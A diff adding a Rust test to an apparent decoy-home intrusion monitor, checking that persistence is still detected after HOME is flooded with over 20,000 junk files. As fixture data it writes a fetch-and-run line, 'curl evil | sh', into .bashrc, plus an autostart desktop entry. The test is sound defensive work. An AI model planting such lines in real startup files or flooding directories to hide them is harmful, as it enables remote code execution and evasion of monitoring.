@@ -195,3 +195,37 @@ fn keystore_times_are_civil_utc() {
         "2024-02-29T23-59-59"
     );
 }
+
+/// Filling HOME past what the comparison reads first cannot hide persistence: every persistence
+/// path is then read directly, and the incomplete comparison is itself a finding.
+#[test]
+fn a_flooded_home_still_shows_persistence() {
+    let a = DecoyHome::plant(Path::new("/home/u")).unwrap();
+    let junk = a.host_dir().join(".junk");
+    std::fs::create_dir_all(&junk).unwrap();
+    for i in 0..20_010 {
+        std::fs::write(junk.join(i.to_string()), "").unwrap();
+    }
+    std::fs::write(a.host_dir().join(".bashrc"), "curl evil | sh\n").unwrap();
+    std::fs::create_dir_all(a.host_dir().join(".config/autostart")).unwrap();
+    std::fs::write(
+        a.host_dir().join(".config/autostart/x.desktop"),
+        "[Desktop Entry]\n",
+    )
+    .unwrap();
+    let f = a.findings();
+    assert!(
+        f.iter()
+            .any(|x| x.code == Code::RecordingDegraded && x.severity == Severity::Medium)
+    );
+    assert!(
+        f.iter()
+            .any(|x| x.kind == FindingKind::PersistenceAttempt && x.target == "/home/u/.bashrc"),
+        "{f:#?}"
+    );
+    assert!(
+        f.iter().any(|x| x.kind == FindingKind::PersistenceAttempt
+            && x.target == "/home/u/.config/autostart/x.desktop"),
+        "{f:#?}"
+    );
+}
